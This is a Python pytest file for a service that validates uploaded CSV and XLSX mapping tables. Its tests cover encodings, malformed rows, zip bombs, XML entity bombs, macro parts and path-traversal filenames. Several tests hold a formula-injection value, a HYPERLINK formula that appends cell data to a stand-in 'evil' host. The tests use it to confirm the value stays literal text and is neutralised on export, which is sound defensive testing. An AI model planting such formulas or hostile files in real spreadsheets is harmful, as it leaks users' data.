"""Reading and validating mapping tables: every bad file gets a clear answer, never a crash."""

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import openpyxl.xml
import pytest

from integrations.mapping.exports import STARTER_SPECS, cell_neutralise, table_csv, table_xlsx
from integrations.mapping.tables import RuleSpec, TableError, table_validate
from integrations.mapping.uploads import (
    UNREADABLE_XLSX,
    csv_delimiter,
    filename_display,
    table_read,
)
from tests.integrations.mapping.mapping_files import (
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    GOOD_ROWS,
    HEADER,
    csv_bytes,
    huge_dimension_sheet,
    xlsx_bytes,
    xlsx_with_part,
    xlsx_with_shared_strings,
    zip_bomb,
    zip_with_many_entries,
)

TABLES = Path(__file__).resolve().parents[2] / "fixtures" / "mapping-tables"


def validate(filename, data, custom=frozenset({"loyalty_id"})):
    return table_validate(rows=table_read(filename=filename, data=data), custom_variables=custom)


def refusal(filename, data) -> str:
    with pytest.raises(TableError) as caught:
        table_read(filename=filename, data=data)
    return str(caught.value)


# ---------------------------------------------------------------------------- the broken fixture
def parse_expected_errors() -> dict[int, str]:
    """{line: expected kind} from broken.expected.md's table (rows without an error omitted)."""
    expected = {}
    for line in (TABLES / "broken.expected.md").read_text().splitlines():
        match = re.match(r"\|\s*(\d+)\s*\|[^|]*\|\s*(.*)\|\s*$", line)
        if match and "**" in match.group(2) and "no validation error" not in match.group(2):
            expected[int(match.group(1))] = re.search(r"\*\*(.+?)\*\*", match.group(2)).group(1)
    return expected


KIND_TO_CODES = {
    "unknown variable": {"unknown_variable"},
    "duplicate target": {"duplicate_target"},
    "malformed path": {"malformed_path"},
    "unknown transform": {"unknown_transform"},
    "bad required value": {"bad_required"},
    "bad transform argument": {"bad_transform_argument"},
    "malformed transform chain": {"malformed_transform"},
    "malformed fallback path": {"malformed_fallback"},
}


def test_broken_table_gives_exactly_the_expected_error_on_every_line():
    expected = parse_expected_errors()
    assert len(expected) == 10  # as broken.expected.md says

    validation = validate("broken.csv", (TABLES / "broken.csv").read_bytes())

    got = {error.line: error for error in validation.errors}
    assert len(validation.errors) == 10  # one per faulty line, all at once
    assert set(got) == set(expected)
    for line, kind in expected.items():
        assert got[line].code in KIND_TO_CODES[kind], (line, kind, got[line])
    assert "Did you mean “firstname”" in got[2].message
    assert "already mapped on line 3" in got[4].message
    assert "empty segment" in got[5].message
    assert "capitalize" in got[6].message
    assert "maybe" in got[7].message
    assert "never closed" in got[9].message
    assert "non-negative integer" in got[12].message
    assert "“female” has no “=”" in got[13].message
    # Line 8's formula in the notes is valid, stored literally.
    (lastname,) = [spec for spec in validation.specs if spec.target == "lastname"]
    assert lastname.notes == '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'


@pytest.mark.parametrize("name", ["auth0-good.csv", "keycloak-good.csv"])
def test_good_tables_validate(name):
    validation = validate(name, (TABLES / name).read_bytes())
    assert validation.errors == [] and validation.is_valid


def test_a_custom_name_that_looks_like_a_typo_is_accepted_when_the_account_uses_it():
    data = csv_bytes([["fristname", "given_name", "", "", "no", ""]])
    assert validate("t.csv", data).errors[0].code == "unknown_variable"
    assert validate("t.csv", data, custom=frozenset({"fristname"})).is_valid


@pytest.mark.parametrize("name", ["phone2", "city_2", "loyalty_id", "birth_year", "shoe_size"])
def test_deliberate_custom_names_are_accepted(name):
    assert validate("t.csv", csv_bytes([[name, "claim", "", "", "no", ""]]), frozenset()).is_valid


@pytest.mark.parametrize("name", ["emial", "emai", "phonee", "First-Name", "1st", "gendre"])
def test_typos_and_invalid_names_are_refused(name):
    (error,) = validate("t.csv", csv_bytes([[name, "claim", "", "", "no", ""]]), frozenset()).errors
    assert error.code == "unknown_variable"


def test_a_row_with_several_faults_reports_them_all_and_empty_rows_are_skipped():
    data = csv_bytes(
        [
            ["fristname", "a..b", "capitalize", "", "maybe", ""],
            ["", "", "", "", "", ""],
            ["city", "", "", "", "", ""],
        ]
    )
    errors = validate("t.csv", data).errors
    assert {(e.line, e.code) for e in errors} == {
        (2, "unknown_variable"),
        (2, "malformed_path"),
        (2, "bad_required"),
        (4, "missing_source"),
    }


@pytest.mark.parametrize("value", ["yes", "YES", "no", "No", "", "y", "n", "true", "0", "oui"])
def test_required_flag_values(value):
    assert validate("t.csv", csv_bytes([["city", "locality", "", "", value, ""]])).is_valid


# ---------------------------------------------------------------------------- CSV formats
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_csv_delimiters_and_bom(delimiter, encoding):
    rows = [*GOOD_ROWS, ["gender", "gender", "map:male=m;female=f", "", "no", "Müller, née"]]
    validation = validate("t.csv", csv_bytes(rows, delimiter=delimiter, encoding=encoding))
    assert validation.is_valid, validation.errors
    assert [spec.target for spec in validation.specs] == ["firstname", "email", "country", "gender"]
    assert validation.specs[-1].transform == "map:male=m;female=f"
    assert validation.specs[-1].notes == "Müller, née"


def test_the_delimiter_comes_from_the_header_line_only():
    assert csv_delimiter(header_line="field;source;transform;fallback;required;notes") == ";"
    assert csv_delimiter(header_line="field") == ","
    assert csv_delimiter(header_line="field\tsource") == "\t"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_with_a_bom_is_decoded(encoding):
    text = csv_bytes([["lastname", "family_name", "", "", "yes", "Müller"]]).decode()
    data = text.encode(encoding)
    if encoding != "utf-16":
        data = ("\ufeff" + text).encode(encoding)
    (spec,) = validate("t.csv", data).specs
    assert spec.notes == "Müller"


def test_utf16_without_a_bom_is_refused_clearly():
    data = csv_bytes(GOOD_ROWS).decode().encode("utf-16-le")
    assert "UTF-16 without a byte-order mark" in refusal("t.csv", data)


def test_cp1252_is_refused_rather_than_garbled():
    data = csv_bytes([["lastname", "family_name", "", "", "yes", "Müller"]], encoding="cp1252")
    assert "not UTF-8" in refusal("t.csv", data)


def test_quoted_fields_with_newlines_keep_their_text_and_line_numbers_follow_the_file():
    data = csv_bytes(
        [
            ["street", "address.street_address", "", "", "no", "line one\nline two"],
            ["fristname", "given_name", "", "", "no", ""],
        ]
    )
    validation = validate("t.csv", data)
    assert validation.specs[0].notes == "line one\nline two"
    assert validation.errors[0].line == 4  # the record after the two-line record


def test_a_huge_field_is_a_clean_message():
    data = csv_bytes([["city", "locality", "", "", "no", "x" * 200_000]])
    assert "cannot be read as CSV" in refusal("t.csv", data)


def test_csv_with_nul_bytes_is_refused():
    assert "NUL" in refusal("t.csv", b"field,source\x00,transform\n" + b"a" * 300)


# ---------------------------------------------------------------------------- whole-file refusals
@pytest.mark.parametrize(
    ("filename", "data", "message"),
    [
        ("t.csv", b"", "empty"),
        ("t.csv", b"\xef\xbb\xbf\r\n\r\n", "empty"),
        ("t.xlsx", b"", "empty"),
        ("t.csv", csv_bytes([]), "header but no rules"),
        ("t.csv", csv_bytes([], header=["Field", "SOURCE"]), "missing column: required"),
        ("t.csv", csv_bytes([], header=[*HEADER, "colour"]), "unknown column: colour"),
        ("t.csv", csv_bytes([], header=[*HEADER, "notes"]), "duplicate column: notes"),
        ("t.csv", csv_bytes([["a", "b", "", "", "", "", "surplus"]]), "outside the named columns"),
        ("t.xlsx", b"MZ\x90\x00" + b"\x00" * 100, "not an XLSX workbook (not a ZIP"),
        ("t.xlsx", b"PK\x03\x04 damaged", "damaged ZIP"),
        ("t.csv", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "NUL"),
        ("t.xlsm", b"PK\x03\x04", ".xlsm files are not accepted"),
        ("t.xls", b"\xd0\xcf\x11\xe0", ".xls files are not accepted"),
        ("t.xlsb", b"PK\x03\x04", ".xlsb files are not accepted"),
        ("t.exe", b"MZ", "Upload a .csv or .xlsx file"),
        ("table", b"field", "Upload a .csv or .xlsx file"),
    ],
)
def test_whole_file_refusals(filename, data, message):
    assert message in refusal(filename, data)


def test_excel_sep_line_names_the_delimiter_and_lines_still_count():
    data = b"sep=;\r\n" + csv_bytes([["fristname", "given_name", "", "", "no", ""]], delimiter=";")
    (error,) = validate("t.csv", data).errors
    assert error.line == 3


def test_a_workbook_renamed_to_csv_gets_a_helpful_message():
    assert "Upload workbooks with the .xlsx extension" in refusal("t.csv", xlsx_bytes(GOOD_ROWS))


def test_renamed_binary_as_csv_is_refused():
    binary = bytes(range(256)) * 4
    assert "NUL" in refusal("t.csv", binary)


def test_columns_in_any_case_and_order_are_accepted():
    header = ["NOTES", "Required", "fallback", "Transform", "source", " Field "]
    data = csv_bytes([["", "yes", "", "lower", "email", "email"]], header=header)
    (spec,) = validate("t.csv", data).specs
    assert spec == RuleSpec("email", "email", "lower", "", True, "")


def test_ten_thousand_rows_are_fine():
    rows = [
        [f"custom_{index:05d}", f"claims[{index}]", "strip", "", "no", ""]
        for index in range(10_000)
    ]
    validation = validate("t.csv", csv_bytes(rows))
    assert validation.is_valid and len(validation.specs) == 10_000


def test_more_than_the_row_cap_is_refused(monkeypatch):
    monkeypatch.setattr("integrations.mapping.uploads.MAX_ROWS", 50)
    rows = [[f"custom_{index}", "claim", "", "", "no", ""] for index in range(60)]
    assert "more than 50 rows" in refusal("t.csv", csv_bytes(rows))
    assert "more than 50 rows" in refusal("t.xlsx", xlsx_bytes(rows))


# ---------------------------------------------------------------------------- XLSX
def test_defusedxml_guards_openpyxl():
    assert openpyxl.xml.DEFUSEDXML is True


def test_xlsx_reads_like_csv():
    rows = [*GOOD_ROWS, ["optin_newsletter", "optin", "bool", "", True, None]]
    validation = validate("t.xlsx", xlsx_bytes(rows))
    assert validation.is_valid, validation.errors
    assert validation.specs[-1].required is True


def test_xlsx_zip_bomb_is_refused_before_openpyxl():
    assert "expands to 60 MB" in refusal("t.xlsx", zip_bomb())


def test_xlsx_ratio_limit():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (10 * 1024 * 1024))
    assert "zip bomb" in refusal("t.xlsx", buffer.getvalue())


def test_xlsx_with_too_many_entries_is_refused():
    assert "too many parts" in refusal("t.xlsx", zip_with_many_entries())


def test_zip_without_workbook_parts_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    assert "parts are missing" in refusal("t.xlsx", buffer.getvalue())


def test_macro_workbook_renamed_to_xlsx_is_refused():
    data = xlsx_with_part(xlsx_bytes(GOOD_ROWS), "xl/vbaProject.bin", b"\x00" * 10)
    assert "macros" in refusal("t.xlsx", data)


@pytest.mark.parametrize("part", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["laughs", "xxe"])
def test_xml_entity_bombs_are_refused(part):
    data = xlsx_with_part(xlsx_bytes(GOOD_ROWS), "xl/worksheets/sheet1.xml", part)
    assert "unsafe XML" in refusal("t.xlsx", data)


def test_a_dimension_claiming_the_whole_grid_is_not_trusted():
    rows = table_read(filename="t.xlsx", data=huge_dimension_sheet())
    assert len(rows) == 3


def test_more_than_fifty_columns_is_refused():
    assert "more than 50 columns" in refusal(
        "t.xlsx", xlsx_bytes([], header=[*HEADER] + ["x"] * 50)
    )


def test_xlsx_formulas_are_read_as_values_never_evaluated_and_text_formulas_stay_text():
    data = xlsx_bytes(
        [["lastname", "family_name", "", "", "yes", '=HYPERLINK("http://evil/?"&A1,"x")']],
        formulas=[(3, 1, '=LOWER("CITY")')],
    )
    rows = table_read(filename="t.xlsx", data=data)
    assert rows[0].cells["notes"] == '=HYPERLINK("http://evil/?"&A1,"x")'  # a text cell, literal
    # A formula cell gives its cached value; without one it is empty (never computed), and
    # that row, blank, is skipped.
    assert len(rows) == 1


# ---------------------------------------------------------------------------- writing
@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-2", "@SUM(1)", "\t=1", "\r=1", "\0x"]
)
def test_formula_like_cells_are_neutralised_on_export(text):
    assert cell_neutralise(value=text) == "'" + text
    spec = RuleSpec("lastname", "family_name", "", "", True, text)
    exported = list(csv.reader(io.StringIO(table_csv(specs=[spec]).decode("utf-8-sig"))))
    assert exported[1][5] == "'" + text
    sheet = openpyxl.load_workbook(io.BytesIO(table_xlsx(specs=[spec]))).worksheets[0]
    # XML turns CR into LF and cannot hold NUL; what matters is the leading quote, as text.
    assert sheet["F2"].value.startswith("'")
    assert sheet["F2"].data_type == "s"


def test_exports_round_trip_without_piling_up_quotes():
    spec = RuleSpec("lastname", "family_name", "strip", "", True, '=HYPERLINK("x")')
    for filename, data in [
        ("t.csv", table_csv(specs=[spec])),
        ("t.xlsx", table_xlsx(specs=[spec])),
    ]:
        assert validate(filename, data).specs == [spec]


def test_template_csv_has_a_bom_and_the_columns():
    data = table_csv(specs=STARTER_SPECS)
    assert data.startswith(b"\xef\xbb\xbffield,source,transform,fallback,required,notes\r\n")
    assert validate("t.csv", data).is_valid


def test_template_xlsx_has_the_reference_sheet():
    workbook = openpyxl.load_workbook(io.BytesIO(table_xlsx(specs=STARTER_SPECS)))
    assert workbook.sheetnames == ["Mapping", "Reference"]
    reference = [cell for row in workbook["Reference"].iter_rows(values_only=True) for cell in row]
    for name in [
        "firstname",
        "optin_partners",
        "date:<input format>",
        "map:<from>=<to>;…",
        "phone or phone:<region>",
    ]:
        assert name in reference


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.csv", "passwd.csv"),
        ("C:\\Users\\x\\mapping.xlsx", "mapping.xlsx"),
        ("evil\u202egpj.csv", "evilgpj.csv"),
        ("nul\x00byte.csv", "nulbyte.csv"),
        ("a" * 500 + ".csv", "a" * 96 + ".csv"),
        ("", "mapping"),
        ("..", "mapping"),
    ],
)
def test_display_names_are_sanitised(name, shown):
    assert filename_display(name=name) == shown


SAMPLES = sorted(
    (Path(__file__).resolve().parents[3] / "integrations" / "sample_tables").glob("*.csv")
)


@pytest.mark.parametrize("path", SAMPLES, ids=[p.name for p in SAMPLES])
def test_sample_tables_validate(path):
    assert validate(path.name, path.read_bytes(), frozenset()).is_valid


def test_the_oidc_sample_is_the_starter_table():
    path = (
        Path(__file__).resolve().parents[3] / "integrations" / "sample_tables" / "oidc-standard.csv"
    )
    assert path.read_bytes() == table_csv(specs=STARTER_SPECS)


def damaged_workbooks():
    import random

    base = xlsx_bytes(GOOD_ROWS)
    yield "truncated", base[: len(base) // 2]
    yield "garbage sheet", xlsx_with_part(base, "xl/worksheets/sheet1.xml", b"<not xml")
    yield "garbage workbook", xlsx_with_part(base, "xl/workbook.xml", b"\xff\xfe garbage")
    yield (
        "shared strings bomb",
        xlsx_with_shared_strings(base, BILLION_LAUGHS.replace(b"worksheet", b"sst")),
    )
    generator = random.Random(5)
    for number in range(300):
        flipped = bytearray(base)
        for _ in range(20):
            flipped[generator.randrange(len(flipped))] = generator.randrange(256)
        yield f"flipped {number}", bytes(flipped)


# What the administrator is told of a damaged file: the problem, in words (never a library's
# exception text, never a crash).
DAMAGED_FILE_MESSAGES = [
    re.escape("The file is not an XLSX workbook (not a ZIP archive)."),
    re.escape("The file is not an XLSX workbook (damaged ZIP archive)."),
    re.escape("The file is not an XLSX workbook (its parts are missing)."),
    re.escape(UNREADABLE_XLSX),
    r"The workbook expands to \d+ MB; the limit is \d+ MB\.",
    re.escape("The workbook is compressed suspiciously well (zip bomb?)."),
    # The same bytes uploaded as .csv:
    re.escape("This is a ZIP file (an XLSX workbook?), not a CSV. ") + ".+",
    re.escape("The file contains NUL bytes: it is not a text (CSV) file."),
]


def test_damaged_files_are_refused_with_a_clear_message_never_a_crash():
    kinds = set()
    for name, data in damaged_workbooks():
        for filename in ("t.xlsx", "t.csv"):
            message = refusal(filename, data)
            matching = [
                kind
                for kind, known in enumerate(DAMAGED_FILE_MESSAGES)
                if re.fullmatch(known, message)
            ]
            assert matching, (name, filename, message)
            kinds.update(matching)
    # The damage reaches every kind of refusal, each named as what it is.
    assert kinds == set(range(len(DAMAGED_FILE_MESSAGES)))


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("truncated", "damaged ZIP archive"),
        ("garbage sheet", "cannot be read: it is damaged"),
        ("garbage workbook", "cannot be read: it is damaged"),
        ("shared strings bomb", "holds unsafe XML"),
    ],
)
def test_each_kind_of_damage_is_named(name, message):
    data = dict(damaged_workbooks())[name]
    assert message in refusal("t.xlsx", data)
